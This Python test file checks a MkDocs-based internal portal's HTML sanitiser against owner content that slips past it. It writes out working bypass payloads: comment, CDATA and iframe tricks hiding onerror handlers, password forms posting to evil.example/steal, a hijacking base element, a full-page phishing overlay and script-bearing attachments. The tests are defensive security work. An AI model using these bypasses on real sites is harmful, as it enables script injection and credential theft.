"""Owner input that gets past the checks, or that the checks get wrong.

Each test is one problem: the smallest organisation that shows it, built by the real command
where the problem is in the built site, and opened in headless Chromium where only a browser
shows it.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

from bs4 import BeautifulSoup
from conftest import BASE, ROOT, TODAY, serve_directory
from test_owner_text import Watch, cli

SOP_HEAD = "---\ntitle: Outage\nsummary: When down.\nreviewed: 2026-11-01\n---\n\n"


def make_org(root: Path, files: dict[str, str]) -> Path:
    """A tiny organisation in root: the base files, then files (dedented)."""
    for rel, text in {**BASE, **files}.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text), encoding="utf-8")
    shutil.copy(ROOT / "mkdocs.yml", root / "mkdocs.yml")
    return root


def built(root: Path, files: dict[str, str]) -> Path | None:
    """The site of a tiny organisation that passes the check and builds; None when the check
    refuses it instead, with an error at one of the files the attack is written in: an input
    refused at review is as safe as one built harmless."""
    make_org(root, files)
    result = cli(root, "check")
    out = result.stdout + result.stderr
    if result.returncode != 0:
        planted = [rel for rel in files if not rel.endswith(("portal.yml", "team.yml"))]
        assert "Traceback" not in out
        assert any(line.startswith(f"{rel}:") and ": error[" in line for line in out.splitlines() for rel in planted), out
        return None
    result = cli(root, "build")
    assert result.returncode == 0, result.stdout + result.stderr
    return root / "site"


def browse(browser, site: Path, *paths: str) -> list[str]:
    """What the pages at paths make a browser do: dialogs, requests elsewhere, dangerous DOM."""
    with serve_directory(site) as origin:
        watch = Watch(browser, origin)
        found = []
        for path in paths:
            found += watch.visit(f"{origin}/{path}")
        found += watch.events
        watch.page.close()
    return found


def test_html5_empty_comment_hides_an_image_handler_from_the_check(browser, tmp_path):
    """`<!-->` is a whole (empty) comment to a browser; Python's HTML parser reads it as the start
    of one that runs to the next `-->`, so the check and the published-site scan see nothing."""
    site = built(tmp_path, {"content/teams/it/sops/outage.md":
                            SOP_HEAD + "Hello\n\n<!--> <img src=x onerror=alert(1)> -->\n\nBye\n"})
    if site is None:  # refused by the check, at the attack's own file
        return
    found = browse(browser, site, "teams/it/sops/outage/")
    assert not found, found


def test_cdata_section_in_html_text_hides_an_image_handler(browser, tmp_path):
    """In HTML (not SVG or MathML) `<![CDATA[` is a bogus comment that ends at the first `>`;
    Python's HTML parser reads a marked section up to `]]>`, so the image between is unseen."""
    site = built(tmp_path, {"content/teams/it/sops/outage.md":
                            SOP_HEAD + "Hello <![CDATA[><img src=x onerror=alert(1)>]]> there.\n"})
    if site is None:  # refused by the check, at the attack's own file
        return
    found = browse(browser, site, "teams/it/sops/outage/")
    assert not found, found


def test_rel_noopener_on_an_html_link_is_accepted(org, run):
    """rel="noopener noreferrer" beside target="_blank" is what owners are taught to write; it
    runs nothing and loads nothing."""
    org.write({"content/teams/it/sops/outage.md": SOP_HEAD + 'See <a href="https://status.example.com/" '
               'target="_blank" rel="noopener noreferrer">the status page</a>.\n'})
    code, out = run("check")
    assert code == 0, out


def test_a_query_parameter_named_like_an_entity_is_accepted(org, run):
    """`&region=eu` in an attribute is not a character reference to a browser (HTML5 leaves a
    legacy entity followed by `=` alone); read with Python's unescape it becomes `®ion=eu`, so
    the sanitiser's output differs and the address is refused as 'not allowed'."""
    org.write({"content/teams/it/sops/outage.md": SOP_HEAD + 'Find <a href="https://maps.example.com/search?'
               'q=office&region=eu">the office</a>.\n\n<img src="files/plan.png?v=2&times=1" alt="plan">\n',
               "content/teams/it/files/plan.png": "png"})
    code, out = run("check")
    assert code == 0, out


def test_theme_classes_lay_an_owner_link_over_the_whole_page(browser, tmp_path):
    """style= overlays are refused, but class= is allowed on every element and the theme's own
    classes do the same: a link styled as Material's consent overlay covers the viewport, and
    every click anywhere on the page goes to the address the owner chose."""
    site = built(tmp_path, {"content/teams/it/sops/outage.md": SOP_HEAD + 'Hello\n\n<a class="md-consent__overlay" '
                            'href="https://evil.example/login">Your session expired: sign in again</a>\n'})
    if site is None:  # refused by the check, at the attack's own file
        return
    with serve_directory(site) as origin:
        page = browser.new_page()
        page.goto(f"{origin}/teams/it/sops/outage/")
        covered = page.evaluate("""() => {
          const el = document.elementFromPoint(innerWidth / 2, innerHeight / 2);
          const link = el && el.closest('a');
          return link && link.href.startsWith('https://evil.example') ? getComputedStyle(link).position : null;
        }""")
        page.close()
    assert covered is None, f"an owner link ({covered}) lies over the middle of the page"


def test_an_answer_left_inside_an_open_html_block_makes_the_next_answer_live_markup(browser, tmp_path):
    """Each FAQ answer is checked alone, but the page is one Markdown text: an answer that ends
    in an open `<div>` turns the rest of the page into raw HTML, so the next answer's code span
    (harmless on its own) becomes a live password form posting to another site, and the next
    question's heading is gone."""
    site = built(tmp_path, {"content/teams/it/faq.yml": """\
        questions:
          - id: vpn
            question: How do I use the VPN?
            answer: |
              Start it.

              <div>
          - id: wifi
            question: Wi-Fi?
            answer: |
              Never type `<form action="https://evil.example/steal"><input type="password" name="pw"><button>Sign in</button></form>` into a page.
        """})
    if site is None:  # refused by the check, at the attack's own file
        return
    with serve_directory(site) as origin:
        page = browser.new_page()
        page.goto(f"{origin}/teams/it/faq/")
        forms = page.evaluate("() => [...document.forms].map(f => f.action).filter(a => a.includes('evil.example'))")
        heading = page.evaluate("() => Boolean(document.getElementById('wifi'))")
        page.close()
    assert not forms, f"a form posting elsewhere: {forms}"
    assert heading, "the second question's heading was swallowed"


AUDIENCES = """\
    audiences:
      - id: managers
        name: Managers
    """
PAY_PAGE = "---\ntitle: Pay\naudience: managers\n---\n\nThe [pay bands](../files/Pay%20bands.csv).\n"


def test_an_attachment_linked_with_a_percent_encoded_name_stays_out_of_the_default_build(org, run):
    """A Markdown link cannot hold a space, so owners write it as %20; the browser follows it to
    'Pay bands.csv'. The attachment only a managers' page links to is published to everyone,
    because the link is compared with the file's name without decoding it."""
    org.write({"content/portal.yml": textwrap.dedent(BASE["content/portal.yml"]) + textwrap.dedent(AUDIENCES),
               "content/teams/it/pages/pay.md": PAY_PAGE,
               "content/teams/it/files/Pay bands.csv": "band,min,max\nSECRET,1,2\n"})
    code, out = run("build")
    assert code == 0, out
    leaked = [p.relative_to(org.root).as_posix() for p in (org.root / "site").rglob("*")
              if p.is_file() and b"SECRET" in p.read_bytes()]
    assert not leaked, f"the managers' attachment is in the default build: {leaked}"


def test_a_percent_encoded_link_to_an_existing_file_is_not_broken(org, run):
    """[x](files/Pay%20bands.csv) leads to 'Pay bands.csv' in every browser."""
    org.write({"content/teams/it/pages/pay.md": "---\ntitle: Pay\n---\n\nThe [pay bands](../files/Pay%20bands.csv).\n",
               "content/teams/it/files/Pay bands.csv": "band,min,max\n"})
    code, out = run("check")
    assert code == 0 and "broken-link" not in out, out


def test_an_image_address_with_an_unclosed_ipv6_bracket_is_a_diagnostic_not_a_traceback(tmp_path):
    """The sanitiser's origin test splits the address with urlsplit, which raises on `[` without
    `]` in the host; the check dies with a traceback instead of naming the line."""
    make_org(tmp_path, {"content/teams/it/sops/outage.md": SOP_HEAD + "![plan](https://[office/plan.png)\n"})
    result = cli(tmp_path, "check")
    assert "Traceback" not in result.stderr, result.stderr[-600:]
    assert "outage.md:7:" in result.stdout, result.stdout


def test_unsafe_html_in_a_folded_answer_is_reported_on_the_line_it_is_written(org, run):
    """A folded (>) or plain multi-line answer is one line of Markdown once YAML joins it; the
    diagnostic counts the column in the joined text from the scalar's first line, so it names
    line 5, column 62 (past the end of that line) for a tag written on line 7."""
    org.write({"content/teams/it/faq.yml": """\
        questions:
          - id: vpn
            question: How do I use the VPN?
            answer: >
              Start the client and
              sign in with your
              usual password. <img src="x" onerror="alert(1)">
        """})
    code, out = run("check")
    assert code == 1
    assert "content/teams/it/faq.yml:7:23: error[unsafe-html]" in out, out


def test_an_owner_id_cannot_stand_in_for_the_theme_s_labels(browser, tmp_path):
    """id= is allowed on every element, and the theme's scripts read their labels with
    getElementById('portal-labels'), whose script element comes after the article: an owner's
    element with that id is found first, so its text is parsed as the labels (spoofed strings,
    or, as here, the page's search and office-hours scripts fail)."""
    site = built(tmp_path, {"content/teams/it/sops/outage.md":
                            SOP_HEAD + 'Hello <span id="portal-labels">{"search_nothing": "Call +1 900 555 0100"</span>\n'})
    if site is None:  # refused by the check, at the attack's own file
        return
    with serve_directory(site) as origin:
        page = browser.new_page()
        errors = []
        page.on("pageerror", lambda e: errors.append(str(e)[:120]))
        page.goto(f"{origin}/teams/it/sops/outage/")
        page.wait_for_load_state("load")
        page.wait_for_timeout(100)
        found = page.evaluate("() => document.getElementById('portal-labels').localName")
        page.close()
    assert found == "script", f"getElementById('portal-labels') finds the owner's <{found}>; script errors: {errors}"


def test_a_benefit_naming_its_file_in_code_before_linking_it_keeps_both_right(tmp_path):
    """Benefits are shown on the catalogue page, so their relative links are rewritten; the
    rewrite looks for the address's text and takes its first occurrence, which here is the code
    span: the code changes to teams/it/files/form.pdf and the real link stays broken."""
    site = built(tmp_path, {
        "content/teams/it/files/form.pdf": "pdf",
        "content/teams/it/benefits.yml": """\
            benefits:
              - id: laptop
                name: Home laptop
                category: Equipment
                summary: A laptop for home.
                eligibility:
                  notes: Everyone.
                how_to_claim: |
                  The form lives at `files/form.pdf` in our folder: fill in [the form](files/form.pdf).
            """})
    assert site is not None, "valid content refused"
    soup = BeautifulSoup((site / "benefits" / "index.html").read_text(encoding="utf-8"), "html.parser")
    link = soup.find("a", string="the form")
    assert (site / "benefits" / link["href"]).resolve().is_file(), f"the link leads to {link['href']}"
    assert soup.find("code", string="files/form.pdf"), "the owner's code span was rewritten"


def test_unsafe_html_is_reported_where_it_is_not_where_a_code_example_quotes_it(org, run):
    """The tag is looked for by its text, from the start of the file: a code span quoting the
    same tag earlier takes the diagnostic, and the owner is sent to the harmless example."""
    org.write({"content/teams/it/sops/outage.md": SOP_HEAD + 'Never paste `<img src="x" onerror="alert(1)">` '
               'into a page.\n\nAnd then:\n\n<img src="x" onerror="alert(1)">\n'})
    code, out = run("check")
    assert code == 1
    assert "outage.md:11:1: error[unsafe-html]" in out, out


def test_an_image_only_a_managers_page_names_in_srcset_stays_out_of_the_default_build(org, run):
    """srcset holds 'address width' candidates; the whole value is taken as one address
    ('../files/pay-chart-2x.png 2x'), so the image matches no file, counts as linked by nobody,
    and is published to everyone (and the check calls the link broken)."""
    org.write({"content/portal.yml": textwrap.dedent(BASE["content/portal.yml"]) + textwrap.dedent(AUDIENCES),
               "content/teams/it/pages/pay.md": "---\ntitle: Pay\naudience: managers\n---\n\n"
               '<img src="../files/pay-chart.png" srcset="../files/pay-chart-2x.png 2x" alt="chart">\n',
               "content/teams/it/files/pay-chart.png": "SECRET small",
               "content/teams/it/files/pay-chart-2x.png": "SECRET large"})
    code, out = run("build")
    assert code == 0, out
    leaked = [p.relative_to(org.root).as_posix() for p in (org.root / "site").rglob("*")
              if p.is_file() and b"SECRET" in p.read_bytes()]
    assert not leaked, f"the managers' image is in the default build: {leaked}\n{out}"


def test_a_body_that_starts_with_indented_code_is_checked_as_the_page_shows_it(browser, tmp_path):
    """The check reads the body as written, where four leading spaces make the first line a code
    block; the page is built from the body with its white space stripped, where the same line
    is a raw HTML block: a live password form posting to another site."""
    site = built(tmp_path, {"content/teams/it/sops/outage.md": SOP_HEAD + '    <form action="https://evil.example/steal">'
                            '<input type="password" name="pw"><button>Sign in</button></form>\n\nHello.\n'})
    if site is None:  # refused by the check, at the attack's own file
        return
    with serve_directory(site) as origin:
        page = browser.new_page()
        page.goto(f"{origin}/teams/it/sops/outage/")
        forms = page.evaluate("() => [...document.forms].map(f => f.action).filter(a => a.includes('evil.example'))")
        page.close()
    assert not forms, f"a form posting elsewhere: {forms}"


def test_rewriting_a_benefit_s_links_cannot_open_a_comment_the_check_saw_closed(browser, tmp_path):
    """A benefit's relative link is rewritten where its address's text first occurs: for the
    address '--' that is inside the comment opener before it, which becomes '<!teams/it/--', a
    bogus comment that ends at the next '>'. The form the check saw inside a comment is live on
    the benefits page, posting passwords to another site."""
    site = built(tmp_path, {"content/teams/it/benefits.yml": """\
        benefits:
          - id: laptop
            name: Home laptop
            category: Equipment
            summary: A laptop for home.
            eligibility:
              notes: Everyone.
            how_to_claim: |
              Ask us. <!-- ><form action="https://evil.example/steal"><input type="password" name="pw"><button>Sign in</button></form> --> See [the form](--).
        """})
    if site is None:  # refused by the check, at the attack's own file
        return
    with serve_directory(site) as origin:
        page = browser.new_page()
        page.goto(f"{origin}/benefits/")
        forms = page.evaluate("() => [...document.forms].map(f => f.action).filter(a => a.includes('evil.example'))")
        page.close()
    assert not forms, f"a form posting elsewhere: {forms}"


def test_a_metrics_row_from_year_one_is_a_diagnostic_not_a_traceback(tmp_path):
    """A ticket export with a zeroed date (0001-01-01, what some tools write for 'none') makes
    the chart's month label '1-01', which the chart cannot read: check and build die."""
    make_org(tmp_path, {
        "content/teams/it/team.yml": textwrap.dedent(BASE["content/teams/it/team.yml"])
        + "response_targets:\n  - priority: P1\n    first_response: 1 hour\n",
        "content/teams/it/metrics.csv": "ticket,priority,created,first_response,resolved,satisfaction\n"
                                        "T1,P1,0001-01-01T00:00,0001-01-01T00:00,,\n"})
    result = cli(tmp_path, "check")
    assert "Traceback" not in result.stderr, result.stderr[-600:]


def _metrics_org(root: Path, csv_text: str) -> None:
    make_org(root, {
        "content/teams/it/team.yml": textwrap.dedent(BASE["content/teams/it/team.yml"])
        + "response_targets:\n  - priority: P1\n    first_response: 1 hour\n",
        "content/teams/it/metrics.csv": csv_text})


def test_a_superscript_digit_as_a_rating_is_a_diagnostic_not_a_traceback(tmp_path):
    """'²'.isdigit() is true but int('²') raises: the satisfaction check lets it through to int()."""
    _metrics_org(tmp_path, "ticket,priority,created,first_response,resolved,satisfaction\n"
                           "T1,P1,2026-11-01T08:00,2026-11-01T09:00,,\u00b2\n")
    result = cli(tmp_path, "check")
    assert "Traceback" not in result.stderr, result.stderr[-600:]
    assert "metrics.csv:2:" in result.stdout, result.stdout


def test_a_metrics_problem_after_a_quoted_multi_line_cell_names_its_own_line(tmp_path):
    """Rows are counted, not lines: after a ticket id with a line break in it, every problem is
    reported one line too early."""
    _metrics_org(tmp_path, "ticket,priority,created,first_response,resolved,satisfaction\n"
                           '"T1\nsecond line",P1,2026-11-01T08:00,2026-11-01T09:00,,\n'
                           "T2,P1,2026-11-01T08:00,2026-11-01T07:00,,\n")
    result = cli(tmp_path, "check")
    assert "metrics.csv:4:1: error[invalid-duration]" in result.stdout, result.stdout


def test_a_comment_inside_an_allowed_frame_hides_an_image_handler(browser, tmp_path):
    """A browser reads an <iframe>'s content as raw text up to </iframe>; Python's HTML parser
    reads markup there, so a '<!--' inside the frame hides from the check and the site scan the
    image that the browser shows after the frame ends."""
    site = built(tmp_path, {
        "content/portal.yml": textwrap.dedent(BASE["content/portal.yml"]) + "embeds: [\"https://videos.example.com\"]\n",
        "content/teams/it/sops/outage.md": SOP_HEAD + '<iframe src="https://videos.example.com/embed/1"><!--</iframe>'
                                           '<img src=x onerror=alert(1)>--></iframe>\n'})
    if site is None:  # refused by the check, at the attack's own file
        return
    with serve_directory(site) as origin:
        watch = Watch(browser, origin)
        watch.page.route("https://videos.example.com/**", lambda route: route.fulfill(body="video"))
        found = watch.visit(f"{origin}/teams/it/sops/outage/") + watch.events
        watch.page.close()
    assert not [f for f in found if "videos.example.com" not in f], found


def test_a_video_service_s_embed_code_pasted_as_given_is_accepted(org, run):
    """Video services hand out embed code with frameborder="0"; from an origin under embeds: the
    code is harmless, yet the check refuses it."""
    org.write({"content/portal.yml": textwrap.dedent(BASE["content/portal.yml"]) + "embeds: [\"https://www.youtube-nocookie.com\"]\n",
               "content/teams/it/sops/outage.md": SOP_HEAD + '<iframe width="560" height="315" '
               'src="https://www.youtube-nocookie.com/embed/abc" title="YouTube video player" frameborder="0" '
               'allow="encrypted-media; picture-in-picture" referrerpolicy="strict-origin-when-cross-origin" '
               'allowfullscreen></iframe>\n'})
    code, out = run("check")
    assert code == 0, out


def test_a_huge_review_period_is_a_diagnostic_not_a_traceback(tmp_path):
    """review_every takes any count of years; adding 99999999 years to the review date leaves the
    range of dates and the check dies."""
    make_org(tmp_path, {"content/teams/it/sops/outage.md": "---\ntitle: Outage\nsummary: When down.\n"
                        "reviewed: 2026-11-01\nreview_every: 99999999 years\n---\n\nHello.\n"})
    result = cli(tmp_path, "check")
    assert "Traceback" not in result.stderr, result.stderr[-600:]
    assert "outage.md:5:" in result.stdout, result.stdout


def test_an_attachment_cannot_run_script_on_the_site_s_origin(browser, tmp_path):
    """Files under a team's files/ folder are published as they are. The site scan reads *.html
    only, so an SVG with onload=, an .htm or an .xhtml page with a script is published, and
    opening the attachment from the SOP's link runs its script on the portal's origin."""
    site = built(tmp_path, {
        "content/teams/it/files/map.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>\n',
        "content/teams/it/files/guide.htm": "<html><body><script>alert(2)</script></body></html>\n",
        "content/teams/it/files/guide.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><body>'
                                              "<script>alert(3)</script></body></html>\n",
        "content/teams/it/sops/outage.md": SOP_HEAD + "See [the map](../files/map.svg), [the guide](../files/guide.htm) "
                                           "and [this](../files/guide.xhtml).\n"})
    if site is None:  # refused by the check, at the attack's own file
        return
    found = browse(browser, site, "teams/it/files/map.svg", "teams/it/files/guide.htm", "teams/it/files/guide.xhtml")
    assert not [f for f in found if "alert" in f], found


def test_markdown_in_a_team_s_files_folder_is_not_a_page_built_unchecked(browser, tmp_path):
    """A .md file under files/ is copied into the docs tree, and MkDocs renders it as a page, but
    the check never reads it: its script (here from a .js beside it, which the site scan lets
    through as the site's own origin) runs for everyone who opens the attachment's link."""
    site = built(tmp_path, {
        "content/teams/it/files/notes.md": '# Notes\n\n<script src="/teams/it/files/x.js"></script>\n',
        "content/teams/it/files/x.js": "alert(5)\n",
        "content/teams/it/sops/outage.md": SOP_HEAD + "See [the notes](../files/notes.md).\n"})
    if site is None:  # refused by the check, at the attack's own file
        return
    pages = [p.relative_to(site).as_posix() for p in (site / "teams" / "it" / "files").rglob("*.html")]
    found = browse(browser, site, *[p.removesuffix("index.html") for p in pages])
    assert not pages and not found, f"pages built from files/: {pages}; {found}"


def test_a_base_element_that_reaches_the_page_is_caught_by_the_site_scan(browser, tmp_path):
    """The site scan does not look at <base>. One that reaches a page (here through a body whose
    first line is indented, which the check reads as code) moves every relative address after
    it, the theme's own scripts included, to another site: they load from there."""
    site = built(tmp_path, {"content/teams/it/sops/outage.md": SOP_HEAD + '    <base href="https://evil.example/">\n\nHello.\n'})
    if site is None:  # refused by the check, at the attack's own file
        return
    found = browse(browser, site, "teams/it/sops/outage/")
    assert not [f for f in found if "evil.example" in f], found


def test_a_long_text_with_many_refused_tags_is_checked_in_reasonable_time(tmp_path):
    """The sanitiser's findings are matched to the owner's tags with difflib's SequenceMatcher
    (autojunk off), which grows worse than quadratically with the tags of one text: a 48 KB
    procedure with 1000 refused tags takes over a minute, 2000 over eight, so one commit stalls
    every pull request's check."""
    body = "".join("<b>x</b> <font>y</font> " for _ in range(1000))
    make_org(tmp_path, {"content/teams/it/sops/outage.md": SOP_HEAD + body + "\n"})
    try:
        result = subprocess.run([sys.executable, "-m", "generator", "check", "--today", TODAY], cwd=tmp_path,
                                env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True, timeout=30)
    except subprocess.TimeoutExpired:
        raise AssertionError("portal check took over 30 s for one 48 KB procedure") from None
    assert "unsafe-html" in result.stdout
